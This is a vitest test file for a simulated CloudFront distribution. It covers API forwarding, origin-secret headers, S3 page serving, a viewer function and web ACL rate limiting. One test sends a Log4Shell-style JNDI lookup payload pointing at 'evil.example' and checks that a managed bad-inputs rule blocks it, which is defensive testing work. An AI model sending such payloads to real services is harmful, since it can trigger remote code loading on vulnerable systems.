import { describe, expect, it } from 'vitest';
import { SECRET, startedDistribution } from './started-distribution.ts';

describe('a request for the API', () => {
  it('reaches it whole, under its own name, with who asked at the end of the way it came', async () => {
    const { ask, received } = await startedDistribution();

    const answer = await ask(
      'POST',
      '/v1/sessions?a=1&a=2',
      { authorization: 'Bearer x', 'x-forwarded-for': '203.0.113.9', 'content-type': 'application/json' },
      '{"a":1}',
    );

    expect(answer).toMatchObject({ status: 201, text: 'made' });
    expect(received).toMatchObject([
      {
        method: 'POST',
        url: '/v1/sessions?a=1&a=2',
        body: '{"a":1}',
        headers: {
          authorization: 'Bearer x',
          'content-type': 'application/json',
          host: 'abc.execute-api.us-east-1.amazonaws.com',
          'x-forwarded-for': '203.0.113.9, 127.0.0.1',
        },
      },
    ]);
  });

  it.each([
    ['nothing', {}],
    ['one of its own', { 'x-origin-secret': 'guessed' }],
    ['one of its own in capitals', { 'X-Origin-Secret': 'guessed' }],
    ['several', { 'x-origin-secret': ['guessed', 'again'] }],
  ])("is shown with the distribution's secret, whoever sent %s", async (_what, headers) => {
    const { ask, received } = await startedDistribution();

    await ask('GET', '/v1/me', headers);

    expect(received[0]?.headers['x-origin-secret']).toBe(SECRET);
  });

  it("is answered with the headers of the policy in place of the origin's, and with its cookies", async () => {
    const { ask } = await startedDistribution();

    const { headers } = await ask('GET', '/v1/me');

    expect(headers['x-frame-options']).toBe('DENY');
    expect(headers['set-cookie']).toEqual(['a=1', 'b=2']);
  });

  it('that is a GET with a body is refused, as CloudFront does', async () => {
    const { ask, received } = await startedDistribution();

    expect((await ask('GET', '/v1/me', { 'content-length': '2' }, '{}')).status).toBe(403);
    expect(received).toEqual([]);
  });

  it('is answered 502 where the API cannot be reached', async () => {
    const { ask, closeApi } = await startedDistribution();
    closeApi();

    expect((await ask('GET', '/v1/me')).status).toBe(502);
  });
});

describe('a request for a page', () => {
  it("reads the root object, with the policy's headers and nothing of S3's own", async () => {
    const { ask, received } = await startedDistribution();

    const { status, text, headers } = await ask('GET', '/');

    expect([status, text]).toEqual([200, 'the page']);
    expect(headers).toMatchObject({ 'content-type': 'text/html', 'x-frame-options': 'DENY' });
    expect(headers['x-amz-id-2']).toBeUndefined();
    expect(received).toEqual([]);
  });

  it('has the path that the function makes of it', async () => {
    const code = `function handler(event) { event.request.uri = '/index.html'; return event.request; }`;
    const pages = { kind: 'bucket', bucket: 'pages' } as const;
    const { ask, asked } = await startedDistribution({
      behaviours: [
        { pathPattern: undefined, origin: pages, methods: ['GET'], headers: {}, viewerFunction: code },
      ],
    });

    expect((await ask('GET', '/calls/today?x=1')).text).toBe('the page');
    expect(asked).toEqual(['/pages/index.html']);
  });

  it('that is not there is answered as S3 does, and one of another method not at all', async () => {
    const { ask, asked } = await startedDistribution();

    expect((await ask('GET', '/gone.js')).status).toBe(403);
    expect((await ask('POST', '/', {}, 'x')).status).toBe(403);
    expect(asked).toEqual(['/pages/gone.js']);
  });

  it('of HEAD has no body', async () => {
    const { ask } = await startedDistribution();

    expect(await ask('HEAD', '/app.js')).toMatchObject({ status: 200, text: '' });
  });
});

describe('the web ACL', () => {
  const webAcl = [
    {
      kind: 'rate',
      name: 'one-address',
      limit: 2,
      windowSeconds: 300,
      answer: { status: 429, contentType: 'application/json', body: '{"title":"too_many_requests"}' },
    },
    {
      kind: 'managed',
      name: 'inputs',
      group: 'AWSManagedRulesKnownBadInputsRuleSet',
      counted: [],
    },
  ] as const;

  it('answers in place of the origins what comes too often from one address, and lets another in', async () => {
    const { ask, received, time } = await startedDistribution({ webAcl });

    const statuses = [];
    for (let n = 0; n < 3; n += 1) statuses.push((await ask('GET', '/v1/me')).status);
    const refused = await ask('GET', '/');
    const another = await ask('GET', '/v1/me', {}, undefined, '127.0.0.2');
    time.ms = 600_000;
    const later = await ask('GET', '/v1/me');

    expect(statuses).toEqual([201, 201, 429]);
    expect([refused.status, JSON.parse(refused.text)]).toEqual([429, { title: 'too_many_requests' }]);
    expect([another.status, later.status, received.length]).toEqual([201, 201, 4]);
  });

  it('blocks what is known to be bad before anybody sees it', async () => {
    const { ask, received } = await startedDistribution({ webAcl });

    const { status } = await ask('POST', '/v1/sign-up', {}, `{"name":"\${jndi:ldap://evil.example}"}`);

    expect([status, received]).toEqual([403, []]);
  });
});
